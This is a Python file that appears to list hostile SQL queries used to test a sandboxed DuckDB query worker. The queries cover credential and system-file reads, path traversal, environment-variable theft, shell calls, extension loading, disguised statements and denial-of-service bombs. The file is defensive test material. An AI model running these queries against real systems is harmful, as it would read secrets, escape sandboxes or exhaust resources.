"""What hostile members may ask, by category; no test.

In the SQL, words in braces are places of this machine: {secret} a text file, {csv}, {parquet} and {db} files that hold the
same secret, {other} the folder of another edition, {out} an empty folder, {port} a port on which a server listens.
"""

from dataclasses import dataclass
from itertools import product

STOPPED, HARMLESS = "stopped", "harmless"


@dataclass(frozen=True, slots=True)
class Attack:
    """One query; ``ends`` says whether it must fail, or may have an answer in which nothing secret stands."""

    category: str
    sql: str
    ends: str = STOPPED


def _all(category, queries, ends=STOPPED):
    listed = queries.strip().splitlines() if isinstance(queries, str) else queries
    return [Attack(category, query.strip(), ends) for query in listed]


READERS = (
    "read_csv('{}')", "read_csv_auto('{}')", "read_text('{}')", "read_blob('{}')", "read_json('{}')", "read_json_auto('{}')",
    "read_json_objects('{}')", "read_ndjson('{}')", "read_ndjson_objects('{}')", "read_parquet('{}')", "parquet_scan('{}')",
    "parquet_metadata('{}')", "parquet_schema('{}')", "parquet_file_metadata('{}')", "parquet_kv_metadata('{}')",
    "sniff_csv('{}')", "read_csv(['{}'])", "'{}'",
)  # fmt: skip

PATHS = (
    "/etc/passwd", "/etc/hostname", "/proc/self/environ", "/proc/1/cmdline", "/proc/self/maps", "/proc/self/mountinfo",
    "/dev/stdin", "/sys/kernel/hostname", "/worker.py", "/python/bin/python", "/packages/duckdb/__init__.py", "/data/../worker.py",
    "/data/posts/../../worker.py", "/database/x.csv", "/data2/x.csv", "worker.py",
    "./worker.py", "file:///worker.py", "file://localhost/worker.py", "~/.ssh/id_rsa", "//worker.py", "/data//../worker.py",
    "/data/./../worker.py",
)  # fmt: skip

FILES = [
    *_all("files", [f"SELECT * FROM {reader.format('{secret}')}" for reader in READERS]),
    *_all("files", [f"SELECT * FROM read_text('{path}')" for path in PATHS]),
    *_all(
        "files",
        """
        SELECT * FROM read_csv('{csv}')
        SELECT * FROM '{parquet}'
        SELECT * FROM read_parquet(['/data/posts/0000.parquet', '{parquet}'])
        SELECT * FROM read_blob('/data/../*')
        SELECT * FROM read_text('/*/*')
        SELECT * FROM read_text(['/data/posts/0000.parquet', '/worker.py'])
        WITH x AS (SELECT * FROM read_text('{secret}')) SELECT * FROM x
        SELECT (SELECT content FROM read_text('{secret}'))
        SELECT * FROM posts, read_text('{secret}')
        """,
    ),
    *_all(
        "files",
        """
        SELECT * FROM read_text('/data/%2e%2e/worker.py')
        SELECT * FROM read_text('/data/..%2fworker.py')
        SELECT * FROM read_csv('/data/posts/0000.parquet', store_rejects = true, filename = '/worker.py')
        SELECT content FROM read_blob('/data/posts/0000.parquet')
        """,
        HARMLESS,
    ),
    *_all(
        "glob",
        [f"SELECT * FROM glob('{path}')" for path in ("/*", "/etc/*", "{other}/*", "/data/../*", "*")],
        HARMLESS,
    ),
    *_all(
        "glob",
        "SELECT * FROM glob('/**')\nSELECT file FROM glob('/proc/*/environ')\nFROM glob('/dev/*')",
        HARMLESS,
    ),
]

NETWORK = _all(
    "network",
    [
        f"SELECT * FROM {reader}('{address}')"
        for reader, address in product(
            ("read_csv", "read_parquet"),
            (
                "http://127.0.0.1:{port}/x",
                "https://127.0.0.1:{port}/x",
                "s3://bucket/x",
                "gcs://bucket/x",
                "hf://datasets/a/b/x",
            ),
        )
    ]
    + [
        "SELECT * FROM 'http://127.0.0.1:{port}/x.parquet'",
        "SELECT * FROM read_text('http://127.0.0.1:{port}/x')",
        "SELECT * FROM read_blob('az://container/x')",
        "ATTACH 'http://127.0.0.1:{port}/x.db'",
        "ATTACH 'https://127.0.0.1:{port}/x.db' (READ_ONLY)",
        "COPY posts TO 'http://127.0.0.1:{port}/x.csv'",
        "COPY posts TO 's3://bucket/x.parquet'",
        "SELECT * FROM postgres_scan('host=127.0.0.1 port={port}', 'public', 't')",
        "SELECT * FROM read_csv('\\\\127.0.0.1\\share\\x.csv')",
    ],
)

VALUES = {
    "enable_external_access": "true", "lock_configuration": "false", "allowed_directories": "['/']", "allowed_paths": "['/worker.py']",
    "memory_limit": "'100GB'", "max_memory": "'100GB'", "threads": "64", "worker_threads": "64", "external_threads": "2",
    "temp_directory": "'/data'", "max_temp_directory_size": "'100GB'", "extension_directory": "'/data'",
    "custom_extension_repository": "'http://127.0.0.1:{port}'", "autoinstall_extension_repository": "'http://127.0.0.1:{port}'",
    "allow_unsigned_extensions": "true", "allow_community_extensions": "true", "allow_extensions_metadata_mismatch": "true",
    "autoinstall_known_extensions": "true", "autoload_known_extensions": "true", "python_enable_replacements": "true",
    "python_scan_all_frames": "true", "secret_directory": "'/data'", "home_directory": "'/'", "allow_persistent_secrets": "true",
    "disabled_filesystems": "''", "http_proxy": "'127.0.0.1:{port}'", "log_query_path": "'/data/log'", "enable_profiling": "'json'",
    "profile_output": "'/data/profile'", "profiling_output": "'/data/profile'", "enable_logging": "true",
    "logging_storage": "'file'", "access_mode": "'read_write'", "allocator_flush_threshold": "'100GB'",
}  # fmt: skip

SETTINGS = [
    *_all("settings", [f"SET {name} = {value}" for name, value in VALUES.items()]),
    *_all(
        "settings",
        [
            f"RESET {name}"
            for name in ("enable_external_access", "lock_configuration", "allowed_directories", "threads")
        ],
    ),
    *_all(
        "settings",
        """
        SET GLOBAL enable_external_access = true; SELECT * FROM read_text('{secret}')
        SET SESSION memory_limit = '100GB'; SELECT 1
        PRAGMA memory_limit = '100GB'
        PRAGMA threads = 64
        PRAGMA enable_external_access = true
        PRAGMA temp_directory = '/data'
        PRAGMA enable_profiling = 'json'
        PRAGMA profile_output = '/data/profile'
        PRAGMA log_query_path = '/data/log'
        """,
    ),
    *_all(
        "settings",
        """
        SET VARIABLE x = 1; SELECT getvariable('x')
        SELECT current_setting('secret_directory')
        SELECT current_setting('extension_directory')
        SELECT current_setting('home_directory')
        SELECT current_setting('temp_directory')
        SELECT * FROM duckdb_settings()
        """,
        HARMLESS,
    ),
]

EXTENSIONS = [
    *_all(
        "extensions",
        """
        INSTALL httpfs
        FORCE INSTALL httpfs
        INSTALL httpfs FROM community
        INSTALL httpfs FROM 'http://127.0.0.1:{port}'
        INSTALL '{secret}'
        LOAD httpfs
        LOAD '/data/x.duckdb_extension'
        LOAD '{secret}'
        LOAD sqlite_scanner
        LOAD postgres
        LOAD spatial
        LOAD shellfs
        SELECT * FROM sqlite_scan('{db}', 't')
        SELECT * FROM st_read('{csv}')
        SELECT * FROM read_xlsx('{csv}')
        SELECT * FROM delta_scan('{other}')
        SELECT * FROM iceberg_scan('{other}')
        SELECT * FROM load_aws_credentials()
        SELECT * FROM shell('id')
        UPDATE EXTENSIONS (httpfs)
        """,
    ),
    *_all("extensions", "SELECT * FROM duckdb_extensions()\nUPDATE EXTENSIONS\nLOAD parquet", HARMLESS),
]

ATTACH = [
    *_all(
        "attach",
        """
        ATTACH '{db}'
        ATTACH '{db}' AS other (READ_ONLY); SELECT * FROM other.ids
        ATTACH '/data/new.db'
        ATTACH '/tmp/new.db'
        ATTACH '/dev/shm/new.db'
        ATTACH '{out}/new.db'
        ATTACH '{db}' AS x (TYPE sqlite)
        ATTACH 'host=127.0.0.1 port={port}' AS x (TYPE postgres)
        ATTACH 'host=127.0.0.1 port={port}' AS x (TYPE mysql)
        ATTACH 'ducklake:{db}' AS x
        ATTACH '/data/x.db' AS x (ENCRYPTION_KEY 'k')
        USE nothing.here
        CREATE DATABASE x
        """,
    ),
    *_all(
        "attach",
        "ATTACH ':memory:' AS x\nDETACH memory\nATTACH '/data/posts/0000.parquet'\nATTACH '' AS x; CREATE TABLE x.t AS SELECT 1 a; SELECT * FROM x.t",
        HARMLESS,
    ),
]

WRITES = [
    *_all(
        "copy",
        [
            f"COPY posts TO '{place}/x.{form}' (FORMAT {form})"
            for place, form in product(
                ("/data", "/data/posts", "/tmp", "/dev/shm", "/packages", "{out}"), ("csv", "parquet", "json")
            )
        ],
    ),
    *_all(
        "copy",
        """
        COPY (SELECT 1 AS a) TO '/data/posts/0000.parquet' (FORMAT parquet)
        COPY (SELECT 1 AS a) TO '/data/posts/0000.parquet' (FORMAT parquet, USE_TMP_FILE false)
        COPY (SELECT 1 AS a) TO '/data/parts' (FORMAT parquet, PARTITION_BY (a))
        COPY (SELECT 1 AS a, 2 AS b) TO '/data/parts' (FORMAT csv, PARTITION_BY (a), OVERWRITE_OR_IGNORE)
        COPY (SELECT 1 AS a) TO '/worker.py'
        COPY (SELECT 1 AS a) TO '/data/../worker.py'
        CREATE TABLE t (a VARCHAR); COPY t FROM '{secret}'
        CREATE TABLE t (a VARCHAR); COPY t FROM '/etc/passwd'
        EXPORT DATABASE '/data/export'
        EXPORT DATABASE '{out}'
        IMPORT DATABASE '{other}'
        COPY FROM DATABASE memory TO nothing
        """,
    ),
    *_all(
        "copy",
        "COPY posts TO '/dev/null'\nCOPY posts TO '/dev/stdout'\nCOPY posts TO '/dev/fd/3'\nCHECKPOINT\nFORCE CHECKPOINT\nVACUUM",
        HARMLESS,
    ),
]

TIERS = [
    *_all(
        "tiers",
        """
        SELECT * FROM secret.ids
        SELECT * FROM consortium.posts
        SELECT * FROM gated
        SELECT * FROM ids
        SELECT * FROM query_table('secret.ids')
        SELECT * FROM query('SELECT * FROM read_text(''{secret}'')')
        SELECT * FROM query_table(['ids'])
        SELECT json_execute_serialized_sql(json_serialize_sql('SELECT * FROM secret.ids'))
        FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM read_text(''{secret}'')'))
        PRAGMA json_execute_serialized_sql('{{"statements": []}}')
        SELECT * FROM read_parquet('{other}/posts.parquet')
        SELECT * FROM read_parquet('/data/../other/posts.parquet')
        CREATE MACRO m() AS TABLE SELECT * FROM read_text('{secret}'); SELECT * FROM m()
        PREPARE p AS SELECT * FROM read_text('{secret}'); EXECUTE p
        CREATE VIEW v AS SELECT * FROM '{parquet}'; SELECT * FROM v
        CREATE TABLE t AS FROM '{parquet}'
        SELECT * FROM read_duckdb('{db}')
        """,
    ),
    *_all(
        "tiers",
        """
        SELECT * FROM duckdb_tables()
        SELECT sql FROM duckdb_views()
        SELECT * FROM information_schema.tables
        SELECT * FROM pg_catalog.pg_class
        SHOW ALL TABLES
        SELECT * FROM sqlite_master
        DESCRIBE posts
        FROM duckdb_memory()
        """,
        HARMLESS,
    ),
]

ENVIRONMENT = [
    *_all(
        "environment",
        """
        SELECT getenv('HELIOGRAPH_SECRET')
        SELECT getenv('PATH')
        SELECT getenv('HOME')
        SELECT list_transform(['HOME'], x -> getenv(x))
        SELECT 'HOME'.getenv()
        SELECT system.main.getenv('HOME')
        PRAGMA import_database('{other}')
        """,
    ),
    *_all(
        "environment",
        """
        SELECT * FROM duckdb_databases()
        SELECT current_database(), current_schema(), version()
        PRAGMA database_list
        PRAGMA platform
        PRAGMA version
        PRAGMA user_agent
        SELECT current_user, session_user
        SELECT * FROM pragma_storage_info('posts')
        SELECT * FROM duckdb_functions() WHERE function_name LIKE '%env%'
        CALL pragma_database_size()
        SELECT * FROM duckdb_variables()
        """,
        HARMLESS,
    ),
]

SECRETS = [
    *_all(
        "secret",
        """
        CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')
        CREATE PERSISTENT SECRET s (TYPE http, BEARER_TOKEN 'x')
        CREATE OR REPLACE SECRET s IN local_file (TYPE s3)
        CREATE TEMPORARY SECRET s (TYPE gcs)
        DROP SECRET s
        """,
    ),
    *_all(
        "secret",
        "FROM duckdb_secrets()\nFROM duckdb_secrets(redact = false)\nFROM which_secret('s3://x', 's3')",
        HARMLESS,
    ),
]

PYTHON = _all(
    "python",
    [
        f"SELECT * FROM {name}"
        for name in (
            "job",
            "query",
            "table",
            "connection",
            "sys",
            "os",
            "json",
            "voice",
            "end",
            "schema",
            "self",
        )
    ]
    + [
        "SELECT * FROM \"job['tables']\"",
        "SELECT os.system('id')",
        "SELECT __import__('os')",
        "SELECT eval('1')",
        "FROM pa",
    ],
)

LOGGING = [
    *_all(
        "logging",
        """
        CALL enable_logging(storage = 'file', storage_path = '/data/log')
        CALL enable_logging(storage = 'file', storage_path = '{out}'); SELECT * FROM posts
        CALL enable_logging('QueryLog', storage = 'file', storage_path = '/dev/shm/log')
        CALL enable_logging(storage = 'file')
        CALL enable_logging(storage = 'file', storage_path = '/data/log', storage_buffer_size = 0); SELECT 1
        CALL enable_profiling(save_location = '/data/profile'); SELECT 1
        """,
        HARMLESS,
    ),
    *_all(
        "logging",
        """
        CALL enable_logging()
        CALL enable_logging(storage = 'stdout'); SELECT 1
        CALL enable_logging(level = 'trace'); SELECT * FROM duckdb_logs()
        SELECT write_log('x')
        FROM duckdb_logs()
        CALL truncate_duckdb_logs()
        CALL disable_logging()
        PRAGMA enable_progress_bar
        PRAGMA enable_verification
        PRAGMA enable_checkpoint_on_shutdown
        """,
        HARMLESS,
    ),
]

STATEMENTS = [
    *_all(
        "statements",
        """
        INSERT INTO posts VALUES (1)
        UPDATE posts SET text = ''
        DELETE FROM posts
        TRUNCATE posts
        ALTER TABLE posts ADD COLUMN x INTEGER
        CREATE INDEX i ON posts (text)
        CALL nothing()
        EXECUTE nothing
        """,
    ),
    *_all(
        "statements",
        """
        DROP VIEW posts
        DROP SCHEMA main CASCADE
        CREATE OR REPLACE VIEW posts AS SELECT 'forged' AS text
        CREATE OR REPLACE MACRO count(x) AS 0
        CREATE TEMP TABLE t AS SELECT 1; SELECT * FROM t
        BEGIN; DROP VIEW posts; ROLLBACK
        CREATE SEQUENCE s; SELECT nextval('s')
        CREATE TYPE t AS ENUM ('a')
        SELECT 1; SELECT 2
        EXPLAIN ANALYZE SELECT * FROM posts
        COMMENT ON VIEW posts IS 'x'
        """,
        HARMLESS,
    ),
]

DISGUISES = _all(
    "disguises",
    [
        "SELECT 1; SELECT * FROM read_text('{secret}')",
        "SELECT/**/*/**/FROM/**/read_text('{secret}')",
        "SELECT * FROM \"read_text\"('{secret}')",
        "SELECT * FROM READ_TEXT('{secret}')",
        "SELECT * FROM read_text($${secret}$$)",
        "SELECT * FROM read_text($x${secret}$x$)",
        "SELECT * FROM read_text(E'{secret}')",
        "SELECT * FROM read_text('{secret}'::VARCHAR)",
        "SELECT * FROM system.main.read_text('{secret}')",
        "-- nothing\nCOPY posts TO '/data/x'",
        "/* SELECT */ COPY posts TO '/data/x'",
        "(((COPY posts TO '/data/x')))",
        "WITH a AS (COPY posts TO '/data/x') SELECT 1",
        'FROM "{secret}"',
        "SELECT * FROM (FROM '{csv}')",
        "SELECT * FROM posts WHERE text IN (SELECT content FROM read_text('{secret}'))",
        "SELECT * FROM posts JOIN '{parquet}' USING (post_id)",
        "SELECT * FROM posts UNION ALL BY NAME SELECT * FROM '{parquet}'",
        "PIVOT (FROM '{csv}') ON column0",
        "SUMMARIZE '{csv}'",
        "DESCRIBE FROM '{parquet}'",
        "TABLE '{parquet}'",
        "\ufeffSELECT * FROM read_text('{secret}')",
        "SELECT * FROM read_text('{secret}\x00.parquet')",
        "SELECT\u00a0*\u00a0FROM\u00a0read_text('{secret}')",
        "SELECT * FROM ｒｅａｄ＿ｔｅｘｔ('{secret}')",
        "SELECT * FROM posts LEFT JOIN LATERAL (FROM read_text('{secret}')) ON true",
        "SELECT unnest(content) FROM read_text(['{secret}'])",
        "EXPLAIN ANALYZE SELECT * FROM read_text('{secret}')",
        "SELECT * EXCLUDE (x) FROM read_text('{secret}')",
    ],
)

DEEP = 200_000
BOMBS = [
    *_all(
        "memory",
        """
        SELECT lpad('a', 2000000000, 'b')
        SELECT rpad('a', 2000000000, 'b')
        SELECT repeat('a', 2000000000)
        SELECT repeat('a', 1000000) FROM range(100000)
        SELECT printf('%2000000000d', 1)
        SELECT format('{{:2000000000}}', 1)
        SELECT bitstring('1', 2000000000)
        SELECT string_split(repeat('a,', 200000000), ',')
        SELECT string_split(repeat('a', 100000000), '')
        SELECT regexp_extract_all(repeat('a', 50000000), '')
        SELECT regexp_split_to_array(repeat('a', 50000000), '')
        SELECT list_sort(range(200000000))
        SELECT list_reverse(range(200000000))
        SELECT list_distinct(range(100000000))
        SELECT range(2000000000)
        SELECT generate_series(1, 1000000000)
        SELECT list(range) FROM range(1000000000)
        SELECT string_agg(repeat('x', 1000), ',') FROM range(10000000)
        SELECT array_agg(a.range) FROM range(100000) a, range(100000) b
        SELECT histogram(range) FROM range(100000000)
        SELECT count(DISTINCT range) FROM range(1000000000)
        SELECT range, count(*) FROM range(1000000000) GROUP BY 1
        SELECT * FROM range(1000000000) ORDER BY hash(range)
        SELECT quantile_cont(a.range, 0.5) FROM range(100000) a, range(10000) b
        SELECT mode(hash(a.range * b.range)) FROM range(100000) a, range(10000) b
        WITH RECURSIVE t(s) AS (SELECT 'a' UNION ALL SELECT s || s FROM t) SELECT max(len(s)) FROM t
        WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t, range(10)) SELECT count(*) FROM t
        SELECT map_from_entries(list_zip(range(50000000), range(50000000)))
        SELECT to_json(range(100000000))
        SELECT replace(repeat('a', 10000000), 'a', repeat('b', 1000))
        SELECT translate(repeat('a', 1000000000), 'a', 'b')
        SELECT list_transform(range(50000000), x -> repeat('a', 100))
        SELECT flatten(list_transform(range(20000), x -> range(20000)))
        SELECT row_number() OVER (ORDER BY hash(a.range)) FROM range(100000) a, range(100000) b
        SELECT lag(a.range) OVER (PARTITION BY b.range ORDER BY a.range) FROM range(100000) a, range(100000) b
        SELECT a.range FROM range(100000000) a JOIN range(100000000) b ON a.range = b.range
        CREATE TABLE t AS SELECT a.range FROM range(1000000) a, range(1000000) b
        SELECT hex(repeat('a', 800000000)), base64(repeat('a', 800000000)::BLOB)
        SELECT error(repeat('x', 500000000))
        SELECT concat(repeat('a', 1000000000), repeat('b', 1000000000))
        SELECT list_concat(range(100000000), range(100000000))
        SELECT array_to_string(range(100000000), ',')
        SELECT list_zip(range(100000000), range(100000000), range(100000000))
        """,
        HARMLESS,
    ),
    *_all(
        "time",
        """
        SELECT levenshtein(repeat('a', 200000), repeat('b', 200000))
        SELECT damerau_levenshtein(repeat('a', 50000), repeat('b', 50000))
        SELECT jaccard(repeat('ab', 10000000), repeat('ba', 10000000))
        SELECT jaro_winkler_similarity(repeat('ab', 500000), repeat('ba', 500000))
        SELECT list_reduce(range(100000000), (a, b) -> a + b)
        SELECT list_reduce(range(30000), (a, b) -> a + len(range(b)))
        SELECT list_aggregate(list_transform(range(10000), x -> list_sum(range(x * 100))), 'sum')
        SELECT count(*) FROM range(100000) a, range(100000) b, range(100000) c
        SELECT count(*) FROM range(1000000) a, range(1000000) b WHERE a.range % 7 = b.range % 11
        SELECT sum(sin(a.range) * cos(b.range)) FROM range(1000000) a, range(1000000) b
        WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t
        WITH RECURSIVE t(n) AS (SELECT 1::BIGINT UNION SELECT (n * 16807) % 2147483647 FROM t) SELECT max(n) FROM t
        SELECT repeat('a', 100000) GLOB repeat('*a', 30) || 'b'
        SELECT repeat('a', 3000000) LIKE repeat('%a', 30) || 'b%c'
        SELECT regexp_matches(repeat('a', 1000000), '(((a{{1,10}}){{1,10}}){{1,10}})b')
        SELECT regexp_matches(repeat('a', 10000000), '(a|aa|aaa)*b')
        SELECT regexp_replace(repeat('a', 10000000), '(a*)*', 'b', 'g')
        SELECT repeat('a', 1000000) SIMILAR TO '(a|b|ab)*c'
        SELECT md5(repeat('a', 100000000)) FROM range(1000)
        SELECT count(*) FROM range(10000000) WHERE sha256(range::VARCHAR) LIKE '%zz'
        SELECT strip_accents(repeat('é', 100000000))
        SELECT count(*) FROM posts a, posts b, posts c, posts d, posts e, posts f, posts g, posts h, posts i, posts j, posts k
        SELECT percent_rank() OVER (ORDER BY a.range) FROM range(10000) a, range(10000) b
        SELECT sum(range) OVER (ORDER BY range ROWS BETWEEN 1000000 PRECEDING AND CURRENT ROW) FROM range(10000000)
        SELECT median(a.range) OVER (ROWS BETWEEN 100000 PRECEDING AND CURRENT ROW) FROM range(1000000) a
        SELECT list_contains(range(100000000), -1) FROM range(1000)
        """,
        HARMLESS,
    ),
    *_all(
        "parsing",
        [
            "SELECT " + "(" * DEEP + "1" + ")" * DEEP,
            "SELECT " + "- " * DEEP + "1",
            "SELECT " + "NOT " * DEEP + "true",
            "SELECT " + "[" * 20_000 + "1" + "]" * 20_000,
            "SELECT 1" + " + 1" * DEEP,
            "SELECT " + "CASE WHEN true THEN " * 20_000 + "1" + " END" * 20_000,
            "SELECT 1 WHERE 1 IN (" + "1, " * DEEP + "1)",
            "SELECT 1" + " UNION ALL SELECT 1" * 20_000,
            "SELECT * FROM " + "(SELECT * FROM " * 5000 + "posts" + ")" * 5000,
            "WITH "
            + ", ".join(f"c{n} AS (SELECT * FROM {f'c{n - 1}' if n else 'posts'})" for n in range(2000))
            + " SELECT * FROM c1999",
            "WITH c0 AS (SELECT 1 AS a), "
            + ", ".join(f"c{n} AS (SELECT x.a FROM c{n - 1} x, c{n - 1} y)" for n in range(1, 40))
            + " SELECT count(*) FROM c39",
            "SELECT " + ", ".join(f"{n} AS c{n}" for n in range(100_000)),
            "SELECT 1 WHERE " + " AND ".join(f"text LIKE '%{n}%'" for n in range(20_000)),
            "SELECT '" + "x" * 4_000_000 + "'",
            "SELECT json_extract(repeat('[', 10000000), '$')",
            "SELECT (repeat('[', 5000000) || repeat(']', 5000000))::JSON::INT[][]",
            "SELECT " + "abs(" * 20_000 + "1" + ")" * 20_000,
            "SELECT * FROM posts " + "JOIN posts USING (post_id) " * 500,
        ],
        HARMLESS,
    ),
    *_all(
        "output",
        """
        SELECT * FROM range(1000000000000)
        SELECT repeat('x', 1000000) FROM range(1000)
        SELECT repeat('x', 100000000)
        SELECT range(100000) FROM range(100000)
        SELECT * FROM posts, range(100000000)
        SELECT repeat('x', 65000)::ENUM('a') FROM range(10)
        SELECT NULL FROM range(1000000000000)
        SELECT {{'a': repeat('x', 30000000), 'b': repeat('x', 30000000)}}
        """,
        HARMLESS,
    ),
]

BOMB_CATEGORIES = frozenset({"memory", "time", "parsing", "output"})

ATTACKS = (
    *FILES, *NETWORK, *SETTINGS, *EXTENSIONS, *ATTACH, *WRITES, *TIERS, *ENVIRONMENT, *SECRETS, *PYTHON, *LOGGING, *STATEMENTS,
    *DISGUISES, *BOMBS,
)  # fmt: skip
CATEGORIES = tuple(dict.fromkeys(attack.category for attack in ATTACKS))
